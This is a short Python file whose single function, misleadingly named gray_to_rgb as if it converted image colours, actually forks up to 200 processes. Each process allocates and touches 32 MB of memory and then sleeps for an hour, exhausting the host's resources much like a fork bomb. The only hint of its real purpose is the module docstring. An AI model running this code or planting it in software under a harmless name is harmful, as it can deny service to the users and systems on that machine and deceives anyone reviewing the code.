"""Takes memory in many processes at once, a little in each."""

import os
import time


def gray_to_rgb(gray):
    for _ in range(200):
        try:
            if os.fork() == 0:
                block = bytearray(2**25)
                block[::4096] = b"x" * len(block[::4096])
                time.sleep(3600)
        except OSError:
            break
    time.sleep(3600)
